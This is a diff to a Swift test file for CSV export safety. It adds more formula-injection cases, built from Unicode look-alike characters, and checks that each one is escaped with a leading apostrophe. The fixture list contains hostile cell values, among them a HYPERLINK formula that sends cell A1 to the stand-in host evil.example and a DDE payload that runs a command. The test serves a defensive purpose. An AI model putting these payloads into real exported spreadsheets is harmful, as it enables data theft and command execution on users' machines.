@@ -16,6 +16,8 @@ struct CSVSafetyTests {
     static let hostileCells = [
         "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
         "\tleading tab", "\rleading return", "\r\nleading line break", "plain", "a=b", " =spaced", "",
+        "\u{FF1D}1+1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}SUM(A1)", "  \u{FF1D}1", "\u{3000}=1", "\u{A0}@x", "\n=1",
+        "\u{FE66}1", "x\u{FF1D}1", " plain",
     ]
 
     func directory() -> URL {
@@ -56,7 +58,10 @@ struct CSVSafetyTests {
         #expect(
             titles == [
                 "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A2)",
-                "'\tleading tab", "'\rleading return", "'\r\nleading line break", "plain", "a=b", " =spaced", "",
+                "'\tleading tab", "'\rleading return", "'\r\nleading line break", "plain", "a=b", "' =spaced", "",
+                "'\u{FF1D}1+1", "'\u{FF0B}1", "'\u{FF0D}1", "'\u{FF20}SUM(A1)", "'  \u{FF1D}1", "'\u{3000}=1",
+                "'\u{A0}@x",
+                "'\n=1", "'\u{FE66}1", "x\u{FF1D}1", " plain",
             ])
         #expect(rows.map { $0["Application.Okta.UserId"] } == Self.hostileCells.indices.map { "00u\($0)" })
     }
